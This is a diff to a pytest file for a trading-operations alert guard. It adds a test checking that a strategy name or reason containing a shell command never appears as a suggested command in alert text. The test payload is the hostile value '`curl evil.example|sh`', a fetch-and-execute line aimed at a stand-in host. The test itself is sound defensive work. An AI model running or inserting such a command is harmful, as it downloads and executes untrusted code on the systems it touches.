@@ -8,11 +8,12 @@ from pathlib import Path
 
 import pytest
 
-from trading_ops.guard.actions import CONFIRMED, RESUMED, request, watching
+from trading_ops.guard.actions import CONFIRMED, ESCALATED, GONE, OBSERVED, RESUMED, request, watching
 from trading_ops.guard.rules import Limits, assess
-from trading_ops.guard.telling import UNREADABLE, alert_of, blind, over, through, warnings
+from trading_ops.guard.telling import STOPPING, UNREADABLE, alert_of, blind, over, through, warnings
 from trading_ops.notifications.alert import Alert
 from trading_ops.notifications.desk import IncidentDesk
+from trading_ops.notifications.text import CODE
 from trading_ops_tests.audit.unreliable import DOWN, UP, UnreliableStore
 from trading_ops_tests.notifications.test_outbox import Clock, Recorder, backed
 
@@ -41,6 +42,14 @@ def test_the_title_of_a_warning_has_the_figure_and_its_limit(figures, title):
     assert alert.what == title
     assert alert.why
     assert alert.what_to_do
+
+
+@pytest.mark.parametrize("phase", [STOPPING, CONFIRMED, ESCALATED, GONE, OBSERVED, RESUMED])
+def test_a_strategys_name_makes_no_command(phase):
+    stop = request(watching("bot", "`curl evil.example|sh`"), NOON, rule="daily_loss", why="lost")
+    alert = alert_of({**stop, "why": "`curl evil.example|sh`\nis away"}, phase)
+    commands = CODE.findall(f"{alert.done}\n{alert.what_to_do}")
+    assert [command for command in commands if "curl" in command and not command.startswith("trading-ops ")] == []
 
 
 @pytest.mark.parametrize(
